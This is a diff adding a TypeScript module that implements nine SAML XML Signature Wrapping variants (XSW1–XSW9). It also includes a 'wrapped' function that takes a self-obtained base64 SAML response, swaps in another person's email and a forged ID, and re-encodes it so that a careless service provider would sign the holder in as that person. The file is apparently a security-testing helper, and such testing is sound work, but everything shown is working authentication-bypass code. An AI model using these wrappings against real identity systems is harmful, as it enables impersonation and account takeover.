@@ -1,0 +1,105 @@
+import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
+
+/**
+ * Signature wrapping, as Somorovsky et al. describe it ("On Breaking SAML: Be Whoever You Want to Be", USENIX Security
+ * 2012) and tools number it: what is signed stays in the document, and somebody else stands where a careless server looks.
+ */
+export type Wrapping = (response: Element, evil: Evil) => void
+
+interface Evil {
+  /** Makes it somebody else's: another name, another address, another id. */
+  readonly forge: (element: Element) => Element
+}
+
+const only = (root: Element, name: string): Element => {
+  const found = Array.from(root.getElementsByTagName('*')).find(({ localName }) => localName === name)
+  if (found === undefined) throw new Error(`There is no ${name}.`)
+  return found
+}
+const clone = (element: Element) => element.cloneNode(true) as Element
+const without = (element: Element) => {
+  const signature = Array.from(element.childNodes).find((one) => (one as Element).localName === 'Signature')
+  if (signature) element.removeChild(signature)
+  return element
+}
+const append = (parent: Element, name: string, child: Element) => {
+  const wrapper = parent.ownerDocument.createElementNS('http://www.w3.org/2000/09/xmldsig#', `ds:${name}`)
+  wrapper.appendChild(child)
+  parent.appendChild(wrapper)
+}
+
+/** For responses whose message is signed. */
+export const messageWrappings: Readonly<Record<string, Wrapping>> = {
+  'XSW1: a forged response around the signed one, after its signature': (response, { forge }) => {
+    const original = without(clone(response))
+    forge(response)
+    only(response, 'Signature').appendChild(original)
+  },
+  'XSW2: the signed response before the signature of a forged one': (response, { forge }) => {
+    const original = without(clone(response))
+    forge(response)
+    response.insertBefore(original, only(response, 'Signature'))
+  },
+}
+
+/** For responses whose assertion is signed. */
+export const assertionWrappings: Readonly<Record<string, Wrapping>> = {
+  'XSW3: a forged assertion before the signed one': (response, { forge }) => {
+    const signed = only(response, 'Assertion')
+    response.insertBefore(forge(without(clone(signed))), signed)
+  },
+  'XSW4: the signed assertion within a forged one': (response, { forge }) => {
+    const signed = only(response, 'Assertion')
+    const evil = forge(without(clone(signed)))
+    response.replaceChild(evil, signed)
+    evil.appendChild(signed)
+  },
+  'XSW5: the signature in a forged assertion, the signed one behind it': (response, { forge }) => {
+    const signed = only(response, 'Assertion')
+    const original = without(clone(signed))
+    forge(signed)
+    response.appendChild(original)
+  },
+  'XSW6: the signed assertion within the signature of a forged one': (response, { forge }) => {
+    const signed = only(response, 'Assertion')
+    const original = without(clone(signed))
+    forge(signed)
+    only(signed, 'Signature').appendChild(original)
+  },
+  'XSW7: a forged assertion among extensions': (response, { forge }) => {
+    const signed = only(response, 'Assertion')
+    const extensions = response.ownerDocument.createElementNS(
+      'urn:oasis:names:tc:SAML:2.0:protocol',
+      'samlp:Extensions',
+    )
+    extensions.appendChild(forge(without(clone(signed))))
+    response.insertBefore(extensions, signed)
+  },
+  'XSW8: the signed assertion in an object of the signature of a forged one': (response, { forge }) => {
+    const signed = only(response, 'Assertion')
+    const original = without(clone(signed))
+    forge(signed)
+    append(only(signed, 'Signature'), 'Object', original)
+  },
+  'XSW9: a forged assertion with the same id before the signed one': (response, { forge }) => {
+    const signed = only(response, 'Assertion')
+    const evil = forge(without(clone(signed)))
+    evil.setAttribute('ID', signed.getAttribute('ID') ?? '')
+    response.insertBefore(evil, signed)
+  },
+}
+
+/** Wraps a response that somebody got for themselves, so that it would sign in `email`. */
+export function wrapped(base64: string, wrap: Wrapping, email: string): string {
+  const document = new DOMParser().parseFromString(Buffer.from(base64, 'base64').toString(), 'text/xml')
+  const forge = (element: Element): Element => {
+    element.setAttribute('ID', '_evil')
+    for (const one of Array.from(element.getElementsByTagName('*'))) {
+      if (one.localName === 'NameID') one.textContent = email
+      if (one.localName === 'AttributeValue' && (one.textContent ?? '').includes('@')) one.textContent = email
+    }
+    return element
+  }
+  wrap(document.documentElement, { forge })
+  return Buffer.from(new XMLSerializer().serializeToString(document)).toString('base64')
+}
